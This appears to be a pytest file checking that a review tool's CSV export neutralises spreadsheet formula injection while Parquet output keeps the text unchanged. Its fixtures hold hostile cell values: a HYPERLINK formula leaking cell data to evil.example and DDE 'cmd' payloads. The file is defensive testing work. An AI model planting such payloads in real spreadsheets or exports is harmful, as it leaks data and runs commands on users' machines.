"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP CSV injection).

A text cell starting with = + - @ tab or CR gets a leading '; numbers (a negative confidence)
stay numbers; the guard can be switched off; Parquet is data and is never changed.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any, cast

import pyarrow.parquet as pq
import pytest

from annotator.models import Dataset, Sample
from review.services.csv_cells import csv_value, neutralise_formula
from review.services.export import write_csv, write_parquet
from tests import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE = {
    "description": HYPERLINK,
    "background": "+cmd|' /C calc'!A0",
    "attribute": "-2+3",
    "subject": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(db) -> Dataset:
    return make_hostile_dataset()


def make_hostile_dataset() -> Dataset:
    """One agreed sample whose only proposal is hostile text with a negative confidence."""
    dataset = cast(Dataset, factories.DatasetFactory(name="formulas"))
    sample = cast(
        Sample,
        factories.SampleFactory(
            dataset=dataset,
            external_id="\t=1+1",
            source="\r@cmd",
            status=Sample.Status.AGREED,
            suggested_emotion="awe",
        ),
    )
    factories.ProposalFactory(
        sample=sample, model_name="m", emotion="awe", confidence=-1.5, **HOSTILE
    )
    return dataset


def csv_row(dataset: Dataset, **kw: Any) -> dict[str, str]:
    out = io.StringIO(newline="")
    write_csv(dataset=dataset, scope="all", out=out, **kw)
    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    return row


def test_formula_leading_text_cells_get_a_leading_quote(hostile):
    row = csv_row(hostile)
    assert row["description"] == "'" + HYPERLINK
    for column in ("background", "attribute", "subject"):
        assert row[column] == "'" + HOSTILE[column]
    assert row["external_id"] == "'\t=1+1"
    assert row["source"] == "'\r@cmd"


def test_numbers_and_harmless_text_are_untouched(hostile):
    row = csv_row(hostile)
    assert row["confidence"] == "-1.5"  # a number, not text: never neutralised
    assert float(row["confidence"]) == -1.5
    assert row["emotion"] == row["emotion_m"] == "awe"
    assert row["sample_id"].isdigit()
    assert row["bbox"] == "[]"
    assert neutralise_formula("a = b, 1 + 1") == "a = b, 1 + 1"
    assert csv_value(-3) == -3
    assert csv_value(-0.25) == -0.25
    assert csv_value("-0.25") == "'-0.25"  # text in a text column: a spreadsheet would parse it
    assert csv_value(None) == ""


def test_the_guard_can_be_switched_off(hostile):
    row = csv_row(hostile, formula_guard=False)
    assert row["description"] == HYPERLINK
    assert row["attribute"] == "-2+3"
    assert row["external_id"] == "\t=1+1"
    assert row["confidence"] == "-1.5"


def test_parquet_keeps_the_text_as_it_is(hostile, tmp_path: Path):
    path = tmp_path / "out.parquet"
    write_parquet(dataset=hostile, scope="all", path=path)
    (row,) = pq.read_table(path).to_pylist()
    assert row["description"] == HYPERLINK
    assert row["confidence"] == -1.5


def test_a_carriage_return_in_a_cell_is_quoted_and_lines_still_end_in_lf(hostile):
    """csv quoted only its line terminator's characters: a bare CR went out bare and split
    the row for every reader."""
    out = io.StringIO(newline="")
    write_csv(dataset=hostile, scope="all", out=out, formula_guard=False)
    text = out.getvalue()
    assert '"\r@cmd"' in text
    assert text.count("\n") == 2 and "\r\n" not in text
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["source"] == "\r@cmd"


def test_every_new_text_column_is_guarded_too(hostile):
    """Each model's own triplet and description, the critic's words, notes and licence come
    from models, people and admins: the same guard applies to each."""
    sample = Sample.objects.get(dataset=hostile)
    factories.CriticVerdictFactory(
        sample=sample, emotion="-awe", reasoning=HYPERLINK, instructions="+do it"
    )
    factories.AdjudicationFactory(sample=sample, notes="@notes")
    Sample.objects.filter(pk=sample.pk).update(status=Sample.Status.ADJUDICATED)
    Dataset.objects.filter(pk=hostile.pk).update(licence="=licence()")
    hostile.refresh_from_db()
    row = csv_row(hostile)
    assert row["description_m"] == "'" + HYPERLINK
    for column in ("background", "attribute", "subject"):
        assert row[f"{column}_m"] == "'" + HOSTILE[column]
    assert row["critic_emotion"] == "'-awe"
    assert row["critic_reasoning"] == "'" + HYPERLINK
    assert row["critic_instructions"] == "'+do it"
    assert row["notes"] == "'@notes"
    assert row["licence"] == "'=licence()"
    assert row["confidence_m"] == "-1.5"  # a number stays a number
    unguarded = csv_row(hostile, formula_guard=False)
    assert unguarded["critic_reasoning"] == HYPERLINK
    assert unguarded["notes"] == "@notes"
